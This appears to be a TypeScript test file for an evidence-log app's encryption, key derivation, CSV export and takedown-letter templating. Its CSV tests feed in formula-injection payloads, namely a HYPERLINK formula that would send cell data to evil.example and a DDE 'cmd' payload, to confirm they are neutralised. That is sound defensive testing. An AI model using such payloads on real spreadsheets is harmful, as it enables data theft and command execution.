// The evidence log's cryptography and its plain-text outputs (server/evidence/seal.ts, export.ts,
// takedown.ts; decision 018): AES-256-GCM records open only unaltered, with the additional data
// they were sealed with, each under a fresh nonce; the wrapping keys depend on both the secret and
// the salt; CSV cells never become formulas; takedown templates are filled in exactly once.
import { expect, test } from "vitest";
import type { EvidenceEntry } from "#app/contracts/evidence.ts";
import { csvCell, evidenceCsv } from "#server/evidence/export.ts";
import { newDataKey, newSalt, open, passphraseKey, recoveryCodeKey, SealBroken, type Sealed, seal, sessionKey } from "#server/evidence/seal.ts";
import { DEFAULT_TAKEDOWN, takedownText } from "#server/evidence/takedown.ts";

const AAD = "hearth evidence entry v1 member-a entry-b";
const PLAINTEXT = Buffer.from('{"place":"夜猫子交流群 Night Owls","links":["https://t.me/nightowls/123"]}', "utf8");

const flipped = (bytes: Buffer, at: number) => {
  const copy = Buffer.from(bytes);
  copy[at] = copy[at]! ^ 0x01;
  return copy;
};
const opens = (key: Buffer, record: Sealed, aad: string) => {
  try {
    open(key, record, aad);
    return "opened";
  } catch (err) {
    return err instanceof SealBroken ? "broken" : `threw ${String(err)}`;
  }
};

test("a sealed record opens to exactly what was sealed, and holds none of it in clear", () => {
  const key = newDataKey();
  expect(key).toHaveLength(32);
  for (const plaintext of [PLAINTEXT, Buffer.alloc(0), Buffer.from("一".repeat(100_000), "utf8")]) {
    const record = seal(key, plaintext, AAD);
    expect(record.nonce).toHaveLength(12);
    expect(record.sealed).toHaveLength(plaintext.length + 16); // GCM: as long as the text, plus the tag
    expect(open(key, record, AAD).equals(plaintext)).toBe(true);
    if (plaintext.length > 0) expect(record.sealed.includes(plaintext.subarray(0, 16))).toBe(false);
  }
});

test("every seal uses a new nonce: 1,000 seals of the same text under the same key, no nonce or ciphertext twice", () => {
  const key = newDataKey();
  const nonces = new Set<string>();
  const ciphertexts = new Set<string>();
  for (let i = 0; i < 1000; i++) {
    const record = seal(key, PLAINTEXT, AAD);
    nonces.add(record.nonce.toString("hex"));
    ciphertexts.add(record.sealed.toString("hex"));
  }
  expect(nonces.size).toBe(1000);
  expect(ciphertexts.size).toBe(1000);
});

test("changing any byte of the nonce or the ciphertext (its tag included) makes it SealBroken", () => {
  const key = newDataKey();
  const record = seal(key, PLAINTEXT, AAD);
  const outcomes = new Set<string>();
  for (let i = 0; i < record.nonce.length; i++) outcomes.add(opens(key, { nonce: flipped(record.nonce, i), sealed: record.sealed }, AAD));
  for (let i = 0; i < record.sealed.length; i++) outcomes.add(opens(key, { nonce: record.nonce, sealed: flipped(record.sealed, i) }, AAD));
  expect([...outcomes]).toEqual(["broken"]);
  // Cut short, lengthened, or with a nonce of another length: broken too, never a crash.
  expect(opens(key, { nonce: record.nonce, sealed: record.sealed.subarray(0, record.sealed.length - 1) }, AAD)).toBe("broken");
  expect(opens(key, { nonce: record.nonce, sealed: Buffer.concat([record.sealed, Buffer.from([0])]) }, AAD)).toBe("broken");
  expect(opens(key, { nonce: record.nonce, sealed: record.sealed.subarray(0, 15) }, AAD)).toBe("broken");
  expect(opens(key, { nonce: record.nonce.subarray(0, 11), sealed: record.sealed }, AAD)).toBe("broken");
  expect(opens(key, { nonce: Buffer.concat([record.nonce, Buffer.from([0])]), sealed: record.sealed }, AAD)).toBe("broken");
  expect(opens(key, { nonce: Buffer.alloc(0), sealed: Buffer.alloc(0) }, AAD)).toBe("broken");
  // Under another key it does not open either; the untouched record still does.
  expect(opens(newDataKey(), record, AAD)).toBe("broken");
  expect(opens(key, record, AAD)).toBe("opened");
});

test("other additional data (another owner, row or kind) makes it SealBroken", () => {
  const key = newDataKey();
  const record = seal(key, PLAINTEXT, AAD);
  for (const aad of [
    "",
    "hearth evidence entry v1 member-a entry-c",
    "hearth evidence entry v1 member-x entry-b",
    `${AAD} `,
    AAD.slice(0, -1),
    AAD.toUpperCase(),
    "hearth evidence key v1 member-a passphrase",
  ])
    expect(opens(key, record, aad), JSON.stringify(aad)).toBe("broken");
  // Sealed with none, opened with some: broken.
  expect(opens(key, seal(key, PLAINTEXT, ""), AAD)).toBe("broken");
});

test("the passphrase's wrapping key differs per salt and per passphrase, and is the same for the same pair", async () => {
  const [saltA, saltB] = [newSalt(), newSalt()];
  expect(saltA).toHaveLength(16);
  expect(saltA.equals(saltB)).toBe(false);
  const passphrase = "quiet lanterns over the harbour";
  const a = await passphraseKey(passphrase, saltA);
  expect(a).toHaveLength(32);
  expect((await passphraseKey(passphrase, saltA)).equals(a)).toBe(true);
  expect((await passphraseKey(passphrase, saltB)).equals(a)).toBe(false);
  expect((await passphraseKey("quiet lanterns over the harbour.", saltA)).equals(a)).toBe(false);
  expect((await passphraseKey("Quiet lanterns over the harbour", saltA)).equals(a)).toBe(false);
  // The passphrase is normalized as the login hash normalizes it (NFKC): "é" typed either way.
  expect((await passphraseKey("caf\u00e9 au lait le matin", saltA)).equals(await passphraseKey("cafe\u0301 au lait le matin", saltA))).toBe(true);
});

test("a recovery code's wrapping key differs per salt and per code, however the code is typed", () => {
  const [saltA, saltB] = [newSalt(), newSalt()];
  const key = recoveryCodeKey("ABCD-EFGH", saltA);
  expect(key).toHaveLength(32);
  for (const typed of ["abcd efgh", "abcdefgh", " ABCD EFGH ", "abcd-efgh", "ＡＢＣＤ－ＥＦＧＨ"])
    expect(recoveryCodeKey(typed, saltA).equals(key), typed).toBe(true);
  expect(recoveryCodeKey("ABCD-EFGI", saltA).equals(key)).toBe(false);
  expect(recoveryCodeKey("ABCD-EFGH", saltB).equals(key)).toBe(false);
});

test("a session's wrapping key differs per salt and per token, and never equals a code's for the same text", () => {
  const [saltA, saltB] = [newSalt(), newSalt()];
  const token = "abcdefghijklmnopqrstuvwxyz234567";
  const key = sessionKey(token, saltA);
  expect(key).toHaveLength(32);
  expect(sessionKey(token, saltA).equals(key)).toBe(true);
  expect(sessionKey(token, saltB).equals(key)).toBe(false);
  expect(sessionKey("abcdefghijklmnopqrstuvwxyz234566", saltA).equals(key)).toBe(false);
  // Each kind derives with its own label: a secret used as both would give two keys.
  expect(recoveryCodeKey(token, saltA).equals(key)).toBe(false);
});

test("a CSV cell is always quoted, quotes are doubled, and a cell never starts as a formula", () => {
  expect(csvCell("plain words")).toBe('"plain words"');
  expect(csvCell("")).toBe('""');
  expect(csvCell('she said "delete it"')).toBe('"she said ""delete it"""');
  expect(csvCell("第一行\n第二行")).toBe('"第一行\n第二行"');
  for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
    const cell = csvCell(`${start}HYPERLINK("https://evil.example/?"&A1,"click")`);
    expect(cell.startsWith(`"'${start}`), JSON.stringify(start)).toBe(true);
    expect(cell.endsWith('""click"")"')).toBe(true);
  }
  // Inside a cell a formula character is harmless and stays as written.
  expect(csvCell("1+1=2")).toBe('"1+1=2"');
});

const entry = (over: Partial<EvidenceEntry> = {}): EvidenceEntry => ({
  id: "00000000-0000-4000-8000-000000000001",
  platform: "telegram",
  platformDetail: "",
  place: "Night Owls channel",
  links: ["https://t.me/nightowls/123", "https://t.me/nightowls/456"],
  seenAt: "2026-03-14T21:30",
  timeZone: "Asia/Shanghai",
  description: "Two photos from 2023",
  postedBy: "@owl_admin",
  reports: [],
  status: "reported",
  followUp: "",
  createdAt: "2026-03-15T01:00:00.000Z",
  updatedAt: "2026-03-15T01:00:00.000Z",
  ...over,
});

test("the whole CSV export: a formula in any member field is neutralised in its cell", () => {
  const csv = evidenceCsv([entry({ place: "=cmd|' /C calc'!A0", description: "+SUM(A1:A9)", postedBy: "@evil", links: ["-1+1"] })], "en");
  expect(csv.startsWith("\ufeff")).toBe(true);
  expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
  expect(csv).toContain(`"'+SUM(A1:A9)"`);
  expect(csv).toContain(`"'@evil"`);
  expect(csv).toContain(`"'-1+1"`);
  expect(csv).not.toMatch(/(^|,)"[=+\-@]/m);
});

test("a takedown text fills every placeholder once: member text that looks like a placeholder stays as written", () => {
  const sneaky = entry({
    place: "{links}",
    links: ["{place}", "https://t.me/nightowls/{description}"],
    description: "{postedBy} {since} {platform}",
    postedBy: "{description}",
  });
  const text = takedownText("P={platform}|W={place}|L={links}|S={since}|B={postedBy}|D={description}|P again={platform}", sneaky, "en");
  expect(text).toBe(
    "P=Telegram|W={links}|L={place}\nhttps://t.me/nightowls/{description}|S=2026-03-14 21:30 (Asia/Shanghai)|B={description}|D={postedBy} {since} {platform}|P again=Telegram",
  );
  // The default templates, in both languages, keep no placeholder unfilled.
  for (const locale of ["en", "zh-Hans"] as const) {
    const filled = takedownText(DEFAULT_TAKEDOWN[locale], entry(), locale);
    expect(filled, locale).not.toMatch(/\{\w+\}/);
    expect(filled).toContain("https://t.me/nightowls/456");
    expect(filled).toContain("Night Owls channel");
  }
});

test("a takedown template's other {words} stay as written, whatever the word", () => {
  // takedown.ts: "any other {word} stays as written". Words that are names on every object
  // (constructor, toString, …) are other words too.
  const text = takedownText("{case} {constructor} {toString} {hasOwnProperty} {__proto__} {valueOf}", entry(), "en");
  expect(text).toBe("{case} {constructor} {toString} {hasOwnProperty} {__proto__} {valueOf}");
});
